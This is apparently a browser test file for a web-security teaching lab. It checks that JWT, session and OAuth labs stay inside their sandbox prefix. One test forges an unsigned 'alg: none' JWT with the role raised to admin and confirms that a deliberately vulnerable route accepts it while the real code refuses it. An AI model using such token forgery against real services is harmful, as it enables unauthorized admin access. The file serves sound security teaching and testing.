"""The whole lab mounted under a path prefix, as the classroom serves a sandbox, in a real browser.

Every test records each request Chromium makes: none may leave the sandbox's prefix or meet a
404, and no party may reach outside it on the back channel either (tests/mounted.py).
"""

import base64
import json
import re
import socket
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.challenges.student import VISIT_TIMEOUT
from tests.conftest import PASSWORDS, resolve_localhost_names
from tests.jwt_flow import call
from tests.mounted import start_mounted_servers

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def mounted(tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket, "getaddrinfo", resolve_localhost_names(socket.getaddrinfo))
        servers = start_mounted_servers(tmp_path_factory.mktemp("mounted-browser"))
        yield servers
        servers.stop()


@pytest.fixture
def sandbox(page, mounted):
    """The browser page, with every request it makes recorded and judged when the test ends."""
    requested, missing = [], []
    page.on("request", lambda request: requested.append(f"{request.method} {request.url}"))
    page.on("response", lambda response: missing.append(response.url) if response.status == 404 else None)
    yield page
    own = {urlsplit(url).netloc for url in mounted.urls.values()}
    outside = [
        line
        for line in requested
        if (parts := urlsplit(line.split(" ", 1)[1])).scheme in ("http", "https")
        and not (parts.netloc in own and parts.path.startswith(mounted.prefix + "/"))
    ]
    assert outside == [], f"the browser left {mounted.prefix}"
    assert missing == [], "the browser met a 404"
    assert mounted.take_strays() == [], f"a party reached outside {mounted.prefix}"


def sign_in_to_the_jwt_lab(page, username):
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(PASSWORDS[username])
    page.get_by_role("button", name="Sign in", exact=True).click()
    expect(page.locator("[data-jwt-status]")).to_contain_text(f"Signed in as {username}")


def test_the_jwt_lab_signs_in_calls_protected_and_refreshes(sandbox, mounted):
    sandbox.goto(mounted.url("app", "/jwt/"))
    sign_in_to_the_jwt_lab(sandbox, "alice")
    call(sandbox, "GET /jwt/protected", "200 OK: You are authenticated!")
    call(sandbox, "POST /jwt/refresh", "200 OK")
    call(sandbox, "GET /jwt/protected", "200 OK")
    expect(sandbox.locator("#jwt-wire")).to_contain_text(f"{mounted.prefix}/jwt/refresh")


def test_the_session_lab_signs_in(sandbox, mounted):
    sandbox.goto(mounted.url("app", "/session/"))
    sandbox.get_by_label("Username").fill("bob")
    sandbox.get_by_label("Password", exact=True).fill(PASSWORDS["bob"])
    sandbox.get_by_role("button", name="Sign in (JSON from the page)").click()
    expect(sandbox.locator('[data-whoami="session"]')).to_have_text("bob")
    expect(sandbox.locator("[data-record-data]")).to_contain_text('"_user_id"')
    cookie = next(c for c in sandbox.context.cookies() if c["name"] == "session")
    assert cookie["path"] == mounted.prefix


def sign_in_at_the_provider(page, mounted, username="alice"):
    expect(page).to_have_url(re.compile(re.escape(mounted.url("provider", "/login"))))
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(PASSWORDS[username])
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(re.compile(re.escape(mounted.url("provider", "/authorize"))))
    page.get_by_role("button", name="Allow").click()


def test_the_oauth_sign_in_through_the_provider_completes(sandbox, mounted):
    sandbox.goto(mounted.url("app", "/oauth/"))
    sandbox.get_by_role("button", name="Sign in with Lab Identity Provider").click()
    sign_in_at_the_provider(sandbox, mounted)
    expect(sandbox).to_have_url(re.compile(re.escape(mounted.url("app", "/oauth/dance"))))
    expect(sandbox.locator('[data-whoami="oauth"]')).to_have_text("alice")
    expect(sandbox.locator(".hop.done")).to_have_count(11)


def test_a_next_outside_the_prefix_is_refused_after_the_sign_in(sandbox, mounted):
    sandbox.goto(mounted.url("app", "/oauth/login?next=/session/"))
    sign_in_at_the_provider(sandbox, mounted)
    expect(sandbox).to_have_url(re.compile(re.escape(mounted.url("app", "/oauth/dance"))))
    expect(sandbox.locator('[data-whoami="oauth"]')).to_have_text("alice")


def test_the_attacker_sites_pages_and_its_exploit_server_load(sandbox, mounted):
    sandbox.goto(mounted.url("attacker", "/"))
    sandbox.get_by_role("link", name="session csrf").click()
    expect(sandbox.locator("h1")).to_be_visible()
    sandbox.goto(mounted.url("attacker", "/exploit"))
    # With an icon of its own: a page that names none makes the browser ask the origin's root.
    sandbox.fill("#exploit-body", '<link rel="icon" href="data:,"><h1>Win a prize</h1>')
    sandbox.click("text=Store the page")
    address = sandbox.get_attribute("#exploit-address", "href")
    assert address.startswith(mounted.url("attacker", "/exploit/"))
    sandbox.goto(address)
    expect(sandbox.locator("h1")).to_have_text("Win a prize")


def b64(data):
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


def test_a_challenge_is_solved_from_its_pages_instructions(sandbox, mounted):
    sandbox.goto(mounted.url("app", "/challenges/jwt-alg-none"))
    sandbox.get_by_role("button", name="Show the solution").click()
    sandbox.get_by_role("button", name="Yes, show the solution").click()
    # What to send, as the page says it: bob's sign-in, then the naive admin route.
    sign_in = sandbox.locator("#goal-title ~ ul code", has_text="POST ").first.inner_text().split(" ", 1)[1]
    admin = re.search(r"http://\S+/vulnerable/jwt/admin", sandbox.locator(".solution").inner_text()).group(0)
    token = sandbox.evaluate(
        """async (path) => {
            const body = JSON.stringify({ username: "bob", password: "thebuilder" });
            const answer = await fetch(path, { method: "POST", headers: { "Content-Type": "application/json" }, body });
            return (await answer.json()).access_token;
        }""",
        sign_in,
    )
    claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    forged = f"{b64({'alg': 'none', 'typ': 'JWT'})}.{b64({**claims, 'role': 'admin'})}."
    answer = sandbox.evaluate(
        "async ([url, token]) => (await fetch(url, { headers: { Authorization: `Bearer ${token}` } })).text()",
        [admin, forged],
    )
    assert "Welcome, admin!" in answer
    sandbox.reload()
    expect(sandbox.locator("#status")).to_contain_text("Solved")
    sandbox.get_by_role("button", name="Send the same attack to the real code").click()
    expect(sandbox.locator("#real")).to_contain_text("refused")


def test_the_victim_bot_signs_in_below_the_prefix(sandbox, mounted):
    sandbox.goto(mounted.url("app", "/challenges/session-guess-id"))
    sandbox.click("text=Let the victim sign in", timeout=VISIT_TIMEOUT)
    sandbox.wait_for_selector("text=The victim's last visit", timeout=VISIT_TIMEOUT)
    hops = sandbox.locator(".victim-hops")
    expect(hops).to_contain_text(f"POST {mounted.url('app', '/vulnerable/session/login')}")
    expect(hops).not_to_contain_text("blockedbyclient")
